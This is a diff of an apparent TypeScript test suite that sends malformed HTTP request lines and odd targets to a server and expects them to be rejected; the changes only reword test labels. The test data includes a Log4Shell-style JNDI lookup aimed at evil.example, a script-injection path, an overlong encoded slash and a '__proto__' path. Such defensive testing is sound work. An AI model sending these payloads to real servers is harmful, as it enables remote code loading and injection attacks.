@@ -1,4 +1,4 @@
-// Broken requests: request lines that are not of HTTP/1.1, and targets that lead nowhere.
+// Broken requests: request lines that are not HTTP/1.1, and unknown targets.
 import { type BrokenRequest, request } from '../../support/raw-request.ts';
 
 const rest = '\r\nHost: localhost\r\nConnection: close\r\n\r\n';
@@ -19,12 +19,12 @@ const malformed: Readonly<Record<string, string>> = {
   'a version without a minor number': 'GET /livez HTTP/1',
   'a version in lower case': 'GET /livez http/1.1',
   'another protocol’s name': 'GET /livez HTCPCP/1.0',
-  'something after the version': 'GET /livez HTTP/1.1 x',
+  'text after the version': 'GET /livez HTTP/1.1 x',
   'a space before the method': ' GET /livez HTTP/1.1',
   'tabs instead of spaces': 'GET\t/livez\tHTTP/1.1',
   'a method in lower case': 'get /livez HTTP/1.1',
   'an unknown method': 'FETCH /livez HTTP/1.1',
-  'a method that is no token': 'G<T /livez HTTP/1.1',
+  'a method that is not a token': 'G<T /livez HTTP/1.1',
   'a method of 1000 letters': `${'G'.repeat(1000)} /livez HTTP/1.1`,
   'a method with a NUL': 'GE\0T /livez HTTP/1.1',
   'a target without a slash': 'GET livez HTTP/1.1',
@@ -48,7 +48,7 @@ const badTargets: Readonly<Record<string, string>> = {
   'a percent sign without digits': '/%',
   'a percent sign with letters': '/%zz',
   'a half percent-encoding': '/api/%a',
-  'percent-encoded bytes that are no UTF-8': '/%ff',
+  'percent-encoded bytes that are not UTF-8': '/%ff',
   'an overlong percent-encoding of a slash': '/%c0%af',
   'a percent-encoded lone surrogate': '/%ed%a0%80',
   'an absolute target without a host': 'http://',
@@ -81,7 +81,7 @@ const nowhere: Readonly<Record<string, string>> = {
   'a name of a prototype': '/__proto__',
   'a name of an object’s method': '/constructor',
   'an asterisk': '*',
-  'another site’s absolute address': 'http://evil.example/nowhere',
+  'the absolute URL of another site': 'http://evil.example/nowhere',
   'a script in the path': '/<script>alert(1)</script>',
   'a template in the path': '/$%7Bjndi:ldap://evil.example/x%7D',
   'a backslash in the path': '/api\\auth\\me',
